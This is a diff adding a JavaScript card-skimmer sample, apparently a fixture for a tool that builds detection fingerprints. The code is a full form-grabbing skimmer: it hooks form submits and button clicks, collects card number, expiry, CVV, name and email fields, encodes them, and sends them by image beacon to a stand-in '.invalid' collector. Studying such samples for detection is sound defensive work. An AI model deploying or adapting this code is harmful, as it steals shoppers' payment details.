@@ -0,0 +1,34 @@
+// label: Form-grabbing card skimmer (submit hook -> image beacon)
+// Defanged seed sample for tools/build-fingerprints.js; the collector host is a reserved .invalid name.
+(function () {
+  var gate = 'https://cdn-analytics.example.invalid/gate.php';
+  var fields = ['cc_number', 'cc_exp', 'cc_cvv', 'cardnumber', 'billing_name', 'email'];
+  function grab(form) {
+    var out = {};
+    for (var i = 0; i < form.elements.length; i++) {
+      var el = form.elements[i];
+      var key = (el.name || el.id || '').toLowerCase();
+      if (!key || !el.value) continue;
+      for (var j = 0; j < fields.length; j++) {
+        if (key.indexOf(fields[j]) !== -1) out[key] = el.value;
+      }
+    }
+    return out;
+  }
+  function send(data) {
+    var payload = btoa(unescape(encodeURIComponent(JSON.stringify(data))));
+    var img = new Image();
+    img.src = gate + '?h=' + encodeURIComponent(location.hostname) + '&d=' + encodeURIComponent(payload);
+  }
+  document.addEventListener('submit', function (e) {
+    var data = grab(e.target);
+    if (Object.keys(data).length) send(data);
+  }, true);
+  document.addEventListener('click', function (e) {
+    var btn = e.target.closest('button, input[type=submit]');
+    if (btn && btn.form) {
+      var data = grab(btn.form);
+      if (Object.keys(data).length) send(data);
+    }
+  }, true);
+})();